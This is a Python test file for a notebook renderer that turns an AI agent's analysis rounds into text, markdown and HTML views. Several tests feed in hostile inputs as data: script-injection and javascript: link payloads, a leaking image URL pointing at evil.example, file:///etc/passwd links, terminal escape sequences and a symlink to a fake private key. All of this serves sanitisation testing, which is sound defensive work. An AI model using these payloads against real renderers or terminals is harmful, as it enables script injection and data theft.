"""Contract 6: the Round's MIME bundle, as data."""

from __future__ import annotations

import html as html_module
import json
import re
import struct
import zlib
from pathlib import Path

import pytest
from support.nb_markdown import rendered
from support.nb_rounds import HOSTILE, analysis_round

from twnb.memory import Attachment, AttachmentType, Post, PromptUtil, derive_plan
from twnb.memory.ledger import Ledger, LedgerEntry
from twnb.render import (
    MIME_TYPE,
    PREVIEW_CAP_BYTES,
    THUMBNAIL_SIDE,
    artifact_previews,
    plan_from_round,
    round_bundle,
    terminal_bundle,
)
from twnb.render.markdown_escape import escape_markdown
from twnb.render.view import round_view

LEDGER = Ledger(
    4.0,
    [
        LedgerEntry("llm", "Planner", 0.0, 1.0, "stop", "m", input_tokens=1000, output_tokens=100),
        LedgerEntry("llm", "CodeInterpreter", 1.0, 1.0, "stop", "m", input_tokens=800, output_tokens=200),
        LedgerEntry("code", "CodeInterpreter", 2.0, 1.0, "success"),
        LedgerEntry("llm", "Planner", 3.0, 1.0, "stop", "m", input_tokens=900, output_tokens=50),
    ],
)


def _png(path: Path, width: int, height: int, noise: bool = False) -> Path:
    """A real PNG (noise makes it incompressible, so it can exceed the preview cap)."""
    import random

    rng = random.Random(0)
    rows = b"".join(
        b"\x00" + (bytes(rng.getrandbits(8) for _ in range(width * 3)) if noise else b"\x80" * width * 3)
        for _ in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )
    return path


def test_bundle_has_the_four_static_views_and_no_widget_view():
    bundle = round_bundle(analysis_round(), session_id="s-1")
    assert set(bundle) == {"text/plain", "text/markdown", "text/html", MIME_TYPE}


def test_payload_keeps_round_to_dict_keys_unchanged_at_top_level():
    round = analysis_round()
    payload = round_bundle(round, session_id="s-1")[MIME_TYPE]
    expected = round.to_dict()
    assert {k: payload[k] for k in expected} == expected
    assert set(payload) == {"id", "user_query", "state", "post_list", "extra", "twnb"}


def test_twnb_object_carries_schema_session_plan_timing_usage_ledger_previews():
    round = analysis_round()
    round.extra["ledger"] = {"duration_s": 3.2, "entries": [], "totals": {"llm_calls": 2}}
    plan = derive_plan(None, round.post_list[1], user_query=round.user_query)
    twnb = round_bundle(round, session_id="s-1", plan=plan, previews=[])[MIME_TYPE]["twnb"]
    assert twnb["schema_version"] == 1
    assert twnb["session_id"] == "s-1"
    assert [(s["name"], s["state"]) for s in twnb["plan"]["subtasks"]] == [
        ("compute the mean", "in_progress"),
        ("report it", "todo"),
    ]
    assert twnb["timing"]["duration_s"] == 3.2
    assert twnb["usage"]["prompt_tokens"] == 1500
    assert twnb["ledger"] == round.extra["ledger"]
    assert twnb["previews"] == []


def test_twnb_plan_is_a_summary_and_twnb_ledger_the_whole_ledger():
    round = analysis_round()
    round.extra["ledger"] = LEDGER.to_dict()
    plan = derive_plan(None, round.post_list[1], user_query=round.user_query)
    round.extra["plan"] = plan.to_dict()
    payload = round_bundle(round, session_id="s-1", plan=plan)[MIME_TYPE]
    assert payload["twnb"]["plan"] == {
        "id": plan.id,
        "state": plan.state,
        "subtasks": [{"name": s.name, "state": s.state} for s in plan.subtasks],
    }
    assert payload["twnb"]["ledger"] == payload["extra"]["ledger"] == LEDGER.to_dict()  # the contract


def test_a_payload_saved_with_the_whole_ledger_in_twnb_still_draws_its_bars():
    round = analysis_round()
    payload = round_bundle(round, session_id="s-1")[MIME_TYPE]
    old = {**payload, "twnb": {**payload["twnb"], "ledger": LEDGER.to_dict()}}
    del old["twnb"]["view"]  # as saved before Rounds carried a view: computed anew
    assert [row["label"] for row in round_view(old)["ledger"]["rows"]] == [
        "Planner LLM",
        "CodeInterpreter LLM",
        "CodeInterpreter code",
        "Planner LLM",
    ]


def test_payload_is_json_serialisable():
    payload = round_bundle(analysis_round(), session_id="s-1", plan=plan_from_round(analysis_round()))[
        MIME_TYPE
    ]
    assert json.loads(json.dumps(payload)) == payload


def test_plan_from_round_follows_the_planner_posts_to_the_end():
    plan = plan_from_round(analysis_round())
    assert [s.state for s in plan.subtasks] == ["done", "done"]


HOSTILE_MARKDOWN = [
    "![chart](https://evil.example/leak.png?q=secret)",  # would load (and leak) on render
    "[click me](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>``",  # a code span that never closes
    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
    "<script>alert(1)</script>",
    "<https://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_hostile_message_renders_without_elements_links_or_images(text):
    html = rendered(round_bundle(analysis_round(message=text), session_id="s-1")["text/markdown"])
    assert "<img" not in html and "<script" not in html
    assert 'href="javascript' not in html


def test_escaped_markdown_still_reads_as_the_text():
    text = "Use `df['a'] < 3` and [x] & y\n```python\nprint('<b>')\n```"
    html = rendered(escape_markdown(text))
    assert "<code>df['a'] &lt; 3</code>" in html
    assert "[x] &amp; y" in html
    assert "print" in html and "&lt;b&gt;" in html


def test_plain_text_has_no_terminal_control_sequences():
    hostile = "ok\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31mred\x1b[0m\r\nnext"
    bundle = round_bundle(analysis_round(message=hostile), session_id="s-1")
    text, summary = terminal_bundle(bundle)["text/plain"], bundle["text/plain"]
    assert "answer:\n  okred\n  next\n" in text
    assert "answer: okred\nnext\n" in summary
    assert not any(ord(c) < 32 and c not in "\n" for c in text + summary)


def test_markdown_shows_raw_html_as_text():
    round = analysis_round(message=f"Result: {HOSTILE}")
    markdown = round_bundle(round, session_id="s-1")["text/markdown"]
    assert "<img" not in markdown
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown


def test_views_never_show_prompt_delimiters():
    start, end = PromptUtil.DELIMITER_TEMPORAL
    round = analysis_round(message=f"The mean is {start}exactly {end}2.")
    bundle = round_bundle(round, session_id="s-1")
    for text in (bundle["text/markdown"], bundle["text/plain"]):
        assert "DELIMITER" not in text
        assert "The mean is exactly 2." in text


def test_plain_text_names_failure_and_interruption():
    round = analysis_round()
    round.change_round_state("failed")
    round.extra["failure_reason"] = "interrupted by the user (Ctrl-C) while the Planner was writing"
    text = round_bundle(round, session_id="s-1")["text/plain"]
    assert "[interrupted]" in text.splitlines()[0]
    assert "Round interrupted: by the user (Ctrl-C) while the Planner was writing" in text


def test_summary_line_gives_time_and_tokens():
    text = terminal_bundle(round_bundle(analysis_round(), session_id="s-1"))["text/plain"]
    assert text.splitlines()[-1] == "time 3.2 s · tokens 1,500 in / 120 out · 3 LLM calls"


def test_summary_line_gives_the_share_of_the_input_the_server_had_cached():
    round = analysis_round()
    round.extra["usage"]["cached_tokens"] = 1200
    bundle = terminal_bundle(round_bundle(round, session_id="s-1"))
    assert bundle["text/plain"].splitlines()[-1] == (
        "time 3.2 s · tokens 1,500 in (80% cached) / 120 out · 3 LLM calls"
    )
    assert "1,500 in (80% cached) / 120 out" in bundle["text/html"]


def _with_artifact(round, path: str):
    post = Post.create("saved a figure", "CodeInterpreter", "Planner")
    post.add_attachment(Attachment.create(AttachmentType.artifact_paths, [path]))
    round.add_post(post)
    return round


def test_small_image_artifact_becomes_a_preview(tmp_path):
    _png(tmp_path / "fig.png", 20, 10)
    previews = artifact_previews(_with_artifact(analysis_round(), "fig.png"), tmp_path)
    assert [(p["path"], p["mime"]) for p in previews] == [("fig.png", "image/png")]
    assert previews[0]["data"]


def test_big_image_preview_is_scaled_under_the_cap(tmp_path):
    big = _png(tmp_path / "big.png", 700, 400, noise=True)
    assert big.stat().st_size > PREVIEW_CAP_BYTES
    (preview,) = artifact_previews(_with_artifact(analysis_round(), str(big)), tmp_path)
    assert preview["mime"] == "image/png"
    assert preview["size"] <= PREVIEW_CAP_BYTES
    assert len(preview["data"]) * 3 // 4 <= PREVIEW_CAP_BYTES


def test_unreadable_artifact_preview_says_why(tmp_path):
    (preview,) = artifact_previews(_with_artifact(analysis_round(), "missing.png"), tmp_path)
    assert "cannot read the file" in preview["omitted"]
    assert "data" not in preview


def test_a_file_outside_the_notebooks_folder_is_never_read_for_a_preview(tmp_path):
    notebook, elsewhere = tmp_path / "notebook", tmp_path / "elsewhere"
    notebook.mkdir()
    elsewhere.mkdir()
    secret = elsewhere / "id_rsa"
    secret.write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----\nkey-bytes-canary\n")
    (notebook / "plot.png").symlink_to(secret)  # a symlink the code left, or a loaded file names
    _png(elsewhere / "chart.png", 4, 4)
    for path in ("plot.png", "../elsewhere/chart.png", str(elsewhere / "chart.png")):
        (preview,) = artifact_previews(_with_artifact(analysis_round(), path), notebook)
        assert preview["omitted"] == "not a file in the notebook's folder" and "data" not in preview


def test_non_image_artifacts_get_no_preview(tmp_path):
    (tmp_path / "table.csv").write_text("a,b\n1,2\n")
    assert artifact_previews(_with_artifact(analysis_round(), "table.csv"), tmp_path) == []


def test_preview_paths_inside_the_notebook_folder_are_relative(tmp_path):
    _png(tmp_path / "fig.png", 4, 4)
    (preview,) = artifact_previews(_with_artifact(analysis_round(), str(tmp_path / "fig.png")), tmp_path)
    assert preview["path"] == "fig.png"


def test_no_error_placeholder_is_not_shown_as_an_error():
    round = analysis_round()
    round.post_list[2].add_attachment(Attachment.create(AttachmentType.code_error, "No error is found."))
    bundle = round_bundle(round, session_id="s-1")
    assert "No error is found" not in bundle["text/markdown"]
    assert "No error is found" not in bundle["text/plain"]


def _displayed_figure(round, png: Path, artifact: str):
    """The Round's code displayed `png` (captured in its execution_result) and saved it as `artifact`."""
    import base64

    post = Post.create("made a figure", "CodeInterpreter", "Planner")
    result = Attachment.create(AttachmentType.execution_result, "The execution succeeded.")
    data = base64.b64encode(png.read_bytes()).decode("ascii")
    result.extra = {"outputs": [{"output_type": "display_data", "data": {"image/png": data}, "metadata": {}}]}
    post.add_attachment(result)
    post.add_attachment(Attachment.create(AttachmentType.artifact_paths, [artifact]))
    round.add_post(post)
    return round, post, result


def test_displayed_figure_preview_points_at_its_output(tmp_path):
    png = _png(tmp_path / "fig.png", 20, 10)
    round, post, result = _displayed_figure(analysis_round(), png, "fig.png")
    (preview,) = artifact_previews(round, tmp_path)
    assert preview["output"] == {"post_id": post.id, "attachment_id": result.id, "index": 0}
    assert preview["data"]


def test_a_preview_is_a_thumbnail_not_the_image_again(tmp_path):
    import base64
    import io

    from PIL import Image

    png = _png(tmp_path / "fig.png", 1280, 960)
    round, _, _ = _displayed_figure(analysis_round(), png, "fig.png")
    (preview,) = artifact_previews(round, tmp_path)
    thumb = Image.open(io.BytesIO(base64.b64decode(preview["data"])))
    assert max(thumb.size) <= THUMBNAIL_SIDE
    assert preview["size"] < png.stat().st_size


def test_markdown_links_artifact_images_instead_of_embedding_them(tmp_path):
    _png(tmp_path / "my fig.png", 20, 10)
    round = _with_artifact(analysis_round(), "my fig.png")
    bundle = round_bundle(round, session_id="s", previews=artifact_previews(round, tmp_path))
    assert "](my%20fig.png)" in bundle["text/markdown"] and "![" not in bundle["text/markdown"]
    assert "base64" not in bundle["text/markdown"]
    assert bundle[MIME_TYPE]["twnb"]["previews"][0]["data"]  # the lab renderer's thumbnail stays


def test_hostile_artifact_name_cannot_pick_a_scheme_or_end_the_link(tmp_path):
    import re

    (tmp_path / "d").mkdir()
    _png(tmp_path / "d" / "javascript:alert(1))![x](https:evil.png", 4, 4)
    round = _with_artifact(analysis_round(), "d/javascript:alert(1))![x](https:evil.png")
    bundle = round_bundle(round, session_id="s", previews=artifact_previews(round, tmp_path))
    html = rendered(bundle["text/markdown"])
    encoded = "d/javascript%3Aalert%281%29%29%21%5Bx%5D%28https%3Aevil.png"
    assert re.findall(r'<a href="([^"]*)"', html) == [encoded]
    assert "<img" not in html
    assert 'href="javascript' not in html


def test_artifact_paths_inside_the_notebook_folder_are_written_relative(tmp_path):
    (tmp_path / "session" / "artifacts").mkdir(parents=True)
    absolute = str(_png(tmp_path / "session" / "artifacts" / "fig.png", 4, 4))
    round = _with_artifact(analysis_round(), absolute)
    previews = artifact_previews(round, tmp_path)
    bundle = round_bundle(round, session_id="s", previews=previews, base_dir=tmp_path)
    (attachment,) = bundle[MIME_TYPE]["post_list"][-1]["attachment_list"]
    assert attachment["content"] == ["session/artifacts/fig.png"]
    assert str(tmp_path) not in json.dumps(bundle)
    assert "](session/artifacts/fig.png)" in bundle["text/markdown"]
    assert "artifacts: session/artifacts/fig.png\n" in bundle["text/plain"]


def test_artifact_paths_outside_the_notebook_folder_stay_absolute(tmp_path):
    (tmp_path / "notebook").mkdir()
    outside = str(tmp_path / "elsewhere" / "fig.png")
    round = _with_artifact(analysis_round(), outside)
    bundle = round_bundle(round, session_id="s", base_dir=tmp_path / "notebook")
    assert bundle[MIME_TYPE]["post_list"][-1]["attachment_list"][0]["content"] == [outside]
    markdown = html_module.unescape(bundle["text/markdown"])
    assert "<code>fig.png</code>" in markdown  # named, not linked: a link needs a relative path
    assert f"]({outside})" not in markdown


SAFE_LINKS = [
    ("[unusual_weeks.csv](unusual_weeks.csv)", "unusual_weeks.csv"),
    ("[the data](../data/sales%202026.csv)", "../data/sales%202026.csv"),
    ("[`weeks.csv`](out/weeks.csv#top)", "out/weeks.csv#top"),
    ("[docs](https://pandas.pydata.org/docs/search.html?q=corr&check_keywords=yes)",
     "https://pandas.pydata.org/docs/search.html?q=corr&amp;check_keywords=yes"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "href"), SAFE_LINKS)
def test_safe_links_in_a_message_render_as_links(text, href):
    html = rendered(round_bundle(analysis_round(message=f"See {text}."), session_id="s")["text/markdown"])
    assert f'<a href="{href}">' in html


HOSTILE_LINKS = [
    "[a](javascript:alert(1))",
    "[a](JavaScript:void)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "[a](jav&#97;script:void)",  # a character reference: renderers decode them in link targets
    "[a](jav&amp;#97;script:void)",  # mistune decodes twice
    "[a](javascript&#58;void)",
    "[a](//evil.example/x)",
    "[a](/etc/passwd)",
    "[a](https:evil.example)",
    "![a](https://evil.example/leak.png)",
    "![a](leak.png)",
    '[a](x.csv "title")',
    "[[a](javascript:void)](x.csv)",
]


@pytest.mark.parametrize("text", HOSTILE_LINKS)
def test_unsafe_link_targets_never_become_a_scheme_or_an_image(text):
    html = rendered(round_bundle(analysis_round(message=text), session_id="s")["text/markdown"])
    assert "<img" not in html
    for href in re.findall(r'href="([^"]*)"', html):
        target = html_module.unescape(href)
        assert re.match(r"https?://", target) or not re.match(r"[A-Za-z][A-Za-z0-9+.-]*:|/", target), href


def test_links_in_the_request_and_in_attachments_stay_text():
    round = analysis_round()
    round.user_query = "Write [weeks.csv](weeks.csv)"
    round.post_list[2].add_attachment(Attachment.create(AttachmentType.thought, "see [a](a.csv)"))
    html = rendered(round_bundle(round, session_id="s")["text/markdown"])
    assert "<a href" not in html


def test_a_reply_cut_off_says_so_in_the_text_view():
    round = analysis_round()
    cut = Post.create('{"response": {"message": "The mean', "Planner", "Unknown")
    cut.extra["incomplete"] = "The reply stopped before it was complete: LLMStreamDropped."
    round.add_post(cut)
    bundle = terminal_bundle(round_bundle(round, session_id="s"))
    reason = "reply cut off: The reply stopped before it was complete: LLMStreamDropped."
    assert f"--- Planner (reply cut off)\n{reason}" in bundle["text/plain"]


def test_verification_is_one_line_not_a_block():
    round = analysis_round()
    round.post_list[2].add_attachment(Attachment.create(AttachmentType.verification, "CORRECT"))
    bundle = terminal_bundle(round_bundle(round, session_id="s"))
    assert "[verification] CORRECT" in bundle["text/plain"]
